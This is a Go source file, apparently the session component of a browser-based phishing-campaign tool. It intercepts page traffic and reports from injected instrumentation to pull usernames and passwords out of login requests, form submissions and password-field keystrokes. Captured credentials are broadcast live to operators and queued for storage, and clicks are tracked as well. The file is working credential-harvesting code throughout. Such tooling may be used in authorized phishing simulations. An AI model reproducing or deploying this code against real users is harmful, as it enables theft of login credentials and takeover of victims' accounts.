package session

import (
	"context"
	"fmt"
	"strings"

	"github.com/microcosm-cc/bluemonday"
	"go.uber.org/zap"

	"github.com/shehryarbajwa/browserbase-control/internal/browser"
	"github.com/shehryarbajwa/browserbase-control/internal/intercept"
	"github.com/shehryarbajwa/browserbase-control/internal/logging"
	"github.com/shehryarbajwa/browserbase-control/pkg/models"
)

// page-reported strings end up in operator UIs
var sanitizer = bluemonday.StrictPolicy()

const maxReportedText = 256

// InputReport is a debounced observation of a password-like field
type InputReport struct {
	FieldType string `json:"fieldType"`
	Name      string `json:"name"`
	Value     string `json:"value,omitempty"`
	URL       string `json:"url"`
}

// ClickReport is one click observed on the page
type ClickReport struct {
	Element map[string]any `json:"element"`
	URL     string         `json:"url"`
}

// FormReport is a form submission observed on the page
type FormReport struct {
	FormData map[string]any `json:"formData"`
	URL      string         `json:"url"`
}

func (r *Registry) onNavigate(h *SessionHandle, url string) {
	if url == "" {
		return
	}
	h.navigated(url, r.now())
	r.broadcast(h.token, models.NewEvent(models.EventPageNavigation, h.token, map[string]string{"url": url}))
}

func (r *Registry) onRequest(h *SessionHandle, req browser.Request) {
	// the instrumentation's own reports are not part of the page's traffic
	if intercept.IsReportURL(req.URL, r.opts.ReportBase) {
		return
	}
	if !intercept.ShouldInspect(req.Method, req.URL, h.authHosts) {
		return
	}
	fields, err := intercept.ParseBody(req.ContentType, req.Body)
	if err != nil {
		r.logger.Debug("request body not parsed", logging.Token(h.token), zap.String("url", req.URL), zap.Error(err))
		return
	}
	if m, ok := intercept.Classify(fields); ok {
		r.capture(h, m, models.CaptureNetwork, req.URL)
	}
}

// capture appends a credential, tells the viewers and hands it to durable storage
func (r *Registry) capture(h *SessionHandle, m intercept.Match, method models.CaptureMethod, sourceURL string) models.CapturedCredential {
	cred := models.CapturedCredential{
		SessionToken:    h.token,
		CampaignID:      h.campaignID,
		EmailOrUsername: m.Identifier,
		Password:        m.Secret,
		Timestamp:       r.now(),
		SourceURL:       sourceURL,
		CaptureMethod:   method,
		Origin:          h.origin,
	}
	h.addCredential(cred)
	r.deps.Metrics.Captures.WithLabelValues(string(method)).Inc()
	r.logger.Info("credential captured",
		logging.Token(h.token),
		zap.String("method", string(method)),
		zap.String("source", sourceURL),
		zap.Bool("identifier", m.Identifier != ""),
		zap.Bool("secret", m.Secret != ""))

	r.broadcast(h.token, models.NewEvent(models.EventCredentialsCaptured, h.token, cred))

	if r.credentials != nil {
		r.credentials.enqueue(cred)
	}
	return cred
}

func (r *Registry) reporting(token string) (*SessionHandle, error) {
	h, ok := r.get(token)
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrSessionNotFound, token)
	}
	h.touch(r.now())
	return h, nil
}

// ReportForm handles a form submission reported by page instrumentation
func (r *Registry) ReportForm(ctx context.Context, token string, rep FormReport) error {
	h, err := r.reporting(token)
	if err != nil {
		return err
	}
	if m, ok := intercept.Classify(intercept.Flatten(rep.FormData)); ok {
		r.capture(h, m, models.CaptureForm, rep.URL)
	}
	return nil
}

// ReportInput handles a password-like field change reported by page instrumentation.
// A reported value is kept as a partial credential.
func (r *Registry) ReportInput(ctx context.Context, token string, rep InputReport) error {
	h, err := r.reporting(token)
	if err != nil {
		return err
	}

	captured := false
	if rep.Value != "" && (intercept.IsSecretKey(rep.FieldType) || intercept.IsSecretKey(rep.Name)) {
		r.capture(h, intercept.Match{Secret: rep.Value}, models.CaptureInput, rep.URL)
		captured = true
	}

	r.broadcast(token, models.NewEvent(models.EventInputCaptured, token, map[string]any{
		"fieldType": clean(rep.FieldType),
		"name":      clean(rep.Name),
		"url":       rep.URL,
		"captured":  captured,
	}))
	return nil
}

// ReportClick handles a click reported by page instrumentation
func (r *Registry) ReportClick(ctx context.Context, token string, rep ClickReport) error {
	if _, err := r.reporting(token); err != nil {
		return err
	}

	element := make(map[string]string, len(rep.Element))
	for k, v := range rep.Element {
		element[clean(k)] = clean(fmt.Sprint(v))
	}
	r.broadcast(token, models.NewEvent(models.EventClickTracked, token, map[string]any{
		"element": element,
		"url":     rep.URL,
	}))
	return nil
}

func clean(s string) string {
	s = strings.TrimSpace(sanitizer.Sanitize(s))
	if r := []rune(s); len(r) > maxReportedText {
		s = string(r[:maxReportedText])
	}
	return s
}
